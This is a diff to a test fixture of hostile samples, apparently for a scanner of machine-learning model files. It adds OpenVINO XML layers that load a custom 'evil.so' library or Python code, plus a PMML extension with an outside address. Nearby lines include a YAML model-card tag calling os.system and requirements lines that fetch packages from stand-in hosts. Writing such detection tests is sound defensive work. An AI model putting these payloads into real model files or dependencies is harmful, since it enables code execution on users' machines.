@@ -109,6 +109,16 @@ HOSTILE: Mapping[str, Callable[[], bytes]] = {
         b'<net name="m" version="11"><layers><layer id="0" name="l" type="Evil" '
         b'version="extension"/></layers></net>'
     ),
+    "xml/openvino-library": lambda: (
+        b"<net version='10'><layers><layer id='1' name='l' type='Custom' library='evil.so'/>"
+        b"</layers></net>"
+    ),
+    "xml/openvino-python": lambda: (
+        b"<net version='10'><layers><layer id='1' name='l' type='Python'/></layers></net>"
+    ),
+    "xml/pmml-address": lambda: (
+        b'<PMML version="4.4"><Header><Extension value="http://x.invalid/a"/></Header></PMML>'
+    ),
     "card/tag": lambda: b"---\nlicense: !!python/object/apply:os.system [x]\n---\n# Model\n",
     "requirements/address": lambda: b"torch>=2\nhttps://example.invalid/evil.whl\nnumpy==1.26\n",
     "requirements/index": lambda: b"--extra-index-url https://example.invalid/simple\ntorch==2.4\n",
